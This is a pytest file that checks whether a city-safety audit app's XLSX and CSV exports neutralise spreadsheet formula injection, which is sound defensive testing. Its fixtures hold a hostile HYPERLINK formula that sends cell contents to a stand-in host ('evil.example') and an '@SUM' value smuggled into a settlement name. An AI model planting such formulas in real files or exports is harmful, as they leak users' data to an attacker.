"""Public exports hold people's text: it must never run as a spreadsheet formula."""

import csv
import io
import zipfile

import numpy as np
from openpyxl import load_workbook

from safercities.stats import audit as audit_stats

from .conftest import audit_answers, store

EVIL = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
SQUARE = {
    "type": "Polygon",
    "coordinates": [
        [[100.55, 13.72], [100.56, 13.72], [100.56, 13.73], [100.55, 13.73], [100.55, 13.72]]
    ],
}


def _assessment(make_assessment, make_settlement, city_a):
    make_settlement(city=city_a, name="@SUM(1+1)\x0b", outline=SQUARE)
    assessment = make_assessment(title=EVIL)
    rng = np.random.default_rng(3)
    for i in range(12):
        ratings = {p: int(rng.integers(0, 4)) for p in audit_stats.PARAMETERS}
        store(assessment, audit_answers(ratings, 13.7205 + i * 0.0004, 100.5505))
    return assessment


def test_the_xlsx_export_holds_no_formula(make_assessment, make_settlement, city_a, client):
    assessment = _assessment(make_assessment, make_settlement, city_a)
    response = client.get(f"/diagnosis/{assessment.pk}/export.xlsx")
    assert response.status_code == 200
    with zipfile.ZipFile(io.BytesIO(response.content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name), name
    workbook = load_workbook(io.BytesIO(response.content))
    about = dict(workbook["about"].iter_rows(values_only=True))
    assert about["assessment"] == "'" + EVIL
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f"
                if isinstance(cell.value, str):
                    assert not cell.value.startswith(("=", "+", "-", "@"))


def test_the_csv_export_neutralises_formulas(make_assessment, make_settlement, city_a, client):
    assessment = _assessment(make_assessment, make_settlement, city_a)
    response = client.get(f"/diagnosis/{assessment.pk}/export.csv")
    assert response.status_code == 200
    for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig"))):
        for value in row:
            assert not value.startswith(("=", "+", "@", "\t", "\r")), value
            assert "\x0b" not in value
